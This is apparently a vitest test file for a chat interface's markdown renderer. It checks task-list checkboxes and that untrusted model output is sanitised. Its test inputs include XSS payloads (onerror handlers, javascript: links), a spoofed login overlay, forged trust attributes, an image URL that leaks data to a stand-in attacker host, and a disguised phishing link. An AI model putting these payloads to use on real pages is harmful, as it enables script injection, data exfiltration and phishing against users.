// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderMarkdown, renderMarkdownCached } from './markdown';

function dom(html: string): HTMLElement {
  const root = document.createElement('div');
  root.innerHTML = html;
  return root;
}

describe('renderMarkdown: GFM task lists', () => {
  it('renders `- [ ]` and `- [x]` items as disabled checkboxes labelled by their text', () => {
    const root = dom(renderMarkdown('- [ ] write the tests\n- [x] ship **it**\n- a plain item'));
    const items = [...root.querySelectorAll('li')];
    expect(items).toHaveLength(3);
    const boxes = [...root.querySelectorAll<HTMLInputElement>('input')];
    expect(boxes.map((box) => [box.type, box.checked, box.disabled])).toEqual([
      ['checkbox', false, true],
      ['checkbox', true, true],
    ]);
    // Each checkbox is named by its item's text through a <label for>, and the brackets are gone.
    for (const box of boxes) {
      const label = root.querySelector(`label[for="${box.id}"]`);
      expect(label?.closest('li')).toBe(box.closest('li'));
    }
    expect(root.querySelector(`label[for="${boxes[1]!.id}"]`)?.innerHTML.trim()).toBe('ship <strong>it</strong>');
    expect(items[0]!.textContent).not.toContain('[ ]');
    expect(items[2]!.querySelector('input')).toBeNull();
    expect(items[2]!.textContent).toBe('a plain item');
  });

  it('numbers nested and ordered task lists too, and leaves brackets elsewhere alone', () => {
    const root = dom(renderMarkdown('1. [x] first\n   - [ ] nested\n2. not [x] a task\n\n`- [ ] code`'));
    expect(root.querySelectorAll('input[type="checkbox"]')).toHaveLength(2);
    expect(root.querySelector('ol > li:nth-child(2)')?.textContent).toBe('not [x] a task');
    expect(root.querySelector('code')?.textContent).toBe('- [ ] code');
  });

  it('gives checkboxes ids that stay unique across answers, so every label names its own box', () => {
    const first = dom(renderMarkdown('- [ ] a\n- [ ] b'));
    const second = dom(renderMarkdown('- [x] c'));
    const ids = [...first.querySelectorAll('input'), ...second.querySelectorAll('input')].map((box) => box.id);
    expect(new Set(ids).size).toBe(3);
  });

  it('sanitises task items like everything else, and lets no other form control through', () => {
    const root = dom(
      renderMarkdown(
        [
          '- [ ] <img src=x onerror="window.__xss=1"> [link](javascript:alert(1))',
          '',
          '<input type="checkbox" name="agree" value="yes" onclick="window.__xss=2" autofocus>',
          '<input type="password" name="pw"> <input value="text"> <textarea>t</textarea> <select><option>o</option></select>',
        ].join('\n'),
      ),
    );
    const attributes = [...root.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => `${a.name}=${a.value}`));
    expect(attributes.filter((a) => a.startsWith('on') || a.includes('javascript:'))).toEqual([]);
    // Two checkboxes remain (the task and the raw one), both disabled and stripped of form fields.
    const inputs = [...root.querySelectorAll<HTMLInputElement>('input')];
    expect(inputs.map((input) => input.type)).toEqual(['checkbox', 'checkbox']);
    expect(inputs.every((input) => input.disabled && !input.hasAttribute('name') && !input.hasAttribute('value') && !input.autofocus)).toBe(true);
    expect(root.querySelector('textarea, select')).toBeNull();
    expect(root.querySelector('img')?.getAttribute('src')).toBe('x');
  });
});

describe('renderMarkdown: model output is untrusted', () => {
  it('drops style and class from the HTML a model writes, keeping them on the renderer\'s own code, math and tables', () => {
    const root = dom(
      renderMarkdown(
        [
          '<div style="position:fixed;inset:0;background:red" class="message-actions login-form">Session expired</div>',
          '',
          '<span class="katex" style="color:white">hidden</span> $x^2$',
          '',
          '```js',
          'const a = 1;',
          '```',
          '',
          '| a | b |',
          '|---|---|',
          '| <b style="font-size:90px" class="x">1</b> | 2 |',
        ].join('\n'),
      ),
    );
    const raw = root.querySelector('div:not(.code-block):not(.table-wrap):not(.code-head)');
    expect(raw?.textContent).toBe('Session expired');
    expect(raw?.getAttribute('style')).toBeNull();
    expect(raw?.getAttribute('class')).toBeNull();
    const fake = [...root.querySelectorAll('span')].find((span) => span.textContent === 'hidden');
    expect(fake?.getAttribute('style')).toBeNull();
    expect(fake?.getAttribute('class')).toBeNull();
    // The renderer's own markup keeps its classes (and KaTeX its sizes); its trust marks are gone.
    expect(root.querySelector('.katex')).not.toBeNull();
    expect(root.querySelector('.katex [style]')).not.toBeNull();
    expect(root.querySelector('.code-block .hljs-keyword')).not.toBeNull();
    expect(root.querySelector('.table-wrap > table b')?.getAttribute('style')).toBeNull();
    expect(root.querySelector('.table-wrap > table b')?.getAttribute('class')).toBeNull();
    expect(root.innerHTML).not.toContain('data-nc-trust');
  });

  it('cannot be given the renderer\'s trust by writing its mark', () => {
    const first = renderMarkdown('$y$');
    const guessed = /data-nc-trust="([^"]*)"/.exec(first)?.[1];
    expect(guessed).toBeUndefined();
    for (const mark of ['data-nc-trust=""', 'data-nc-trust="x:self"', 'data-nc-trust="0123456789abcdef01234567"']) {
      const root = dom(renderMarkdown(`<p ${mark} style="position:fixed" class="code-block">p</p>`));
      expect(root.querySelector('p')?.getAttribute('style')).toBeNull();
      expect(root.querySelector('p')?.getAttribute('class')).toBeNull();
    }
  });

  it('holds images of other sites behind a button naming the site, and loads them once asked, without a referrer', () => {
    const source = '![chart](https://evil.example/leak?d=secret) <img src="http://tracker.example/p.gif"> ![local](/api/x.png) ![inline](data:image/png;base64,iVBORw0KGgo=)';
    const root = dom(renderMarkdown(source));
    const held = [...root.querySelectorAll<HTMLButtonElement>('button.remote-image')];
    expect(held.map((button) => [button.dataset.src, button.textContent])).toEqual([
      ['https://evil.example/leak?d=secret', 'Image from evil.example — click to load'],
      ['http://tracker.example/p.gif', 'Image from tracker.example — click to load'],
    ]);
    expect([...root.querySelectorAll('img')].map((img) => img.getAttribute('src'))).toEqual(['/api/x.png', 'data:image/png;base64,iVBORw0KGgo=']);
    const loaded = dom(renderMarkdown(source, undefined, new Set(['https://evil.example/leak?d=secret'])));
    const img = loaded.querySelector('img[src^="https://evil.example"]');
    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(loaded.querySelectorAll('button.remote-image')).toHaveLength(1);
  });

  it('never loads media, responsive sources or backgrounds of other sites', () => {
    const root = dom(
      renderMarkdown('<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><audio src="https://evil.example/a.mp3"></audio><picture><source srcset="https://evil.example/s.png"></picture><table background="https://evil.example/b.png"><tr><td>t</td></tr></table><img src="/ok.png" srcset="https://evil.example/2x.png 2x">'),
    );
    expect(root.innerHTML).not.toContain('evil.example');
  });

  it('shows where a link really goes: its address on hover and its site beside a text that is not the address', () => {
    const root = dom(renderMarkdown('[your bank](https://phish.example/login) and https://docs.example.org/guide and [here](/c/1)'));
    const [phish, plain, local] = [...root.querySelectorAll('a')];
    expect(phish?.getAttribute('title')).toBe('https://phish.example/login');
    expect(phish?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(phish?.nextElementSibling?.textContent).toBe(' (phish.example)');
    expect(plain?.getAttribute('title')).toBe('https://docs.example.org/guide');
    expect(plain?.nextElementSibling?.classList.contains('link-host') ?? false).toBe(false);
    expect(local?.getAttribute('title')).toBeNull();
  });
});

describe('renderMarkdownCached', () => {
  const labels = { copyCode: 'Copy code', loadImage: 'Image from {host} — click to load' };

  it('renders a finished text once and gives the same HTML again, per language', () => {
    const source = `cache check ${Math.random()}: **bold** and $x^2$`;
    const first = renderMarkdownCached(source, labels);
    expect(first).toBe(renderMarkdown(source, labels));
    expect(renderMarkdownCached(source, labels)).toBe(first);
    const chinese = renderMarkdownCached(source + '\n```js\n1\n```', { copyCode: '复制代码', loadImage: '来自 {host} 的图片' });
    expect(chinese).toContain('复制代码');
  });

  it('never shares task-list checkbox ids between two answers', () => {
    const source = '- [ ] same list';
    const a = dom(renderMarkdownCached(source, labels)).querySelector('input')!.id;
    const b = dom(renderMarkdownCached(source, labels)).querySelector('input')!.id;
    expect(a).not.toBe(b);
  });
});
